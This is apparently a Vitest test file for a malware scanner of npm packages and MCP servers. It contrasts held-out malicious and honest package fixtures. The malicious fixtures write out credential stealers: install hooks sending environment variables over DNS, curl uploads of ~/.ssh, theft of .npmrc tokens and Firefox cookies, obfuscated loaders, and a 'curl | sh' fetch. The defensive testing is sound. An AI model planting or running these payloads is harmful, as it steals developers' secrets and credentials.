import { describe, expect, it } from "vitest";
import { atLeast, readFiles, worst } from "./package-dir";

/**
 * Cases written from the rule categories after the rules were written, and
 * not used to tune them: real-world shapes of npm malware and of honest MCP
 * servers. Each says only how severe the worst finding must (or must not) be.
 */

const malicious: [string, Record<string, string>, Record<string, unknown>][] = [
  [
    "preinstall one-liner exfiltrating the hostname and env over DNS",
    {},
    { scripts: { preinstall: "node -e \"require('dns').lookup(Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0,60)+'.x.oast.fun',()=>{})\"" } },
  ],
  [
    "postinstall shell script that tars ~/.ssh and posts it with curl",
    { "install.sh": "#!/bin/sh\ntar czf /tmp/k.tgz $HOME/.ssh\ncurl -F f=@/tmp/k.tgz https://upload.files.test/\n" },
    { scripts: { postinstall: "sh install.sh" } },
  ],
  [
    "runtime stealer: reads .npmrc and .git-credentials, posts with axios",
    { "lib/telemetry.js": "const axios = require('axios');\nconst files = ['.npmrc', '.git-credentials'].map(f => read(path.join(os.homedir(), f)));\naxios.post('https://telemetry.pkg.test/v2', { files });\n" },
    {},
  ],
  [
    "env posted to a Telegram bot",
    { "index.js": "const t='https://api.telegram.org/bot123:AAA/sendMessage';\nfetch(t,{method:'POST',body:new URLSearchParams({chat_id:'1',text:JSON.stringify(process.env)})});\n" },
    {},
  ],
  [
    "loader: char codes turned into code and run with Function",
    { "util.js": `const c=String.fromCharCode(${[..."require('child_process').exec('id')"].map((ch) => ch.charCodeAt(0)).join(",")});\nFunction(c)();\n` },
    {},
  ],
  [
    "hex payload executed by vm",
    { "boot.js": `const vm=require('vm');\nconst h='${Buffer.from("const cp=require('child_process');cp.execSync('curl http://203.0.113.5/p|sh')").toString("hex")}';\nvm.runInThisContext(Buffer.from(h,'hex').toString());\n` },
    {},
  ],
  [
    "browser cookie theft sent over a raw socket",
    { "index.js": "const net=require('net');\nconst db=path.join(home,'.mozilla/firefox', profile, 'cookies.sqlite');\nconst s=net.connect(4444,'203.0.113.77');s.write(fs.readFileSync(db));\n" },
    {},
  ],
];

const honest: [string, Record<string, string>, Record<string, unknown>][] = [
  [
    "GitHub MCP server: token from env, calls api.github.com, runs git",
    {
      "dist/index.js": "import { execFile } from 'node:child_process';\nconst token = process.env.GITHUB_PERSONAL_ACCESS_TOKEN;\nexport async function repos(){ return (await fetch('https://api.github.com/user/repos',{headers:{Authorization:`token ${token}`}})).json(); }\nexport const clone = (url) => execFile('git', ['clone', url]);\n",
    },
    {},
  ],
  [
    "filesystem server: reads files the user allows, no network",
    { "dist/index.js": "import fs from 'node:fs/promises';\nconst allowed = process.argv.slice(2);\nexport const read = (p) => fs.readFile(p, 'utf8');\n" },
    {},
  ],
  [
    "Postgres server: connection string from env, pg driver, config loading with dotenv",
    { "index.js": "require('dotenv').config();\nconst { Pool } = require('pg');\nconst pool = new Pool({ connectionString: process.env.DATABASE_URL });\n" },
    {},
  ],
  [
    "bundled server with embedded font and schema URLs",
    {
      "dist/server.js": `const font="data:font/woff2;base64,${Buffer.alloc(400, 3).toString("base64")}";\nconst s={$id:'https://json-schema.org/draft/2020-12/schema'};\nconst spec='https://spec.modelcontextprotocol.io/specification/';\n`,
    },
    {},
  ],
  [
    "native addon built at install with prebuild-install",
    { "index.js": "module.exports = require('node-gyp-build')(__dirname);" },
    { scripts: { install: "prebuild-install || node-gyp rebuild" }, gypfile: true },
  ],
  [
    "server that spawns a browser with the environment copied",
    { "index.js": "const { spawn } = require('child_process');\nspawn(chromePath, args, { env: Object.assign({}, process.env, { DISPLAY: ':0' }) });\nfetch('http://127.0.0.1:9222/json/version');\n" },
    {},
  ],
  [
    "SSH tool server that names ~/.ssh/config to list hosts, no network send in that file",
    { "hosts.js": "const cfg = path.join(os.homedir(), '.ssh', 'config');\nmodule.exports = () => parse(fs.readFileSync(cfg, 'utf8'));\n" },
    {},
  ],
];

describe("held-out malicious packages", () => {
  it.each(malicious)("%s → high or critical", async (_name, files, manifest) => {
    const r = await readFiles(files, manifest);
    expect(atLeast(worst(r.findings), "high"), JSON.stringify(r.findings.map((f) => [f.id, f.severity]))).toBe(true);
  });
});

describe("held-out honest packages", () => {
  it.each(honest)("%s → nothing above medium", async (_name, files, manifest) => {
    const r = await readFiles(files, manifest);
    expect(atLeast(worst(r.findings), "high"), JSON.stringify(r.findings.map((f) => [f.id, f.severity, f.detail]))).toBe(false);
  });
});
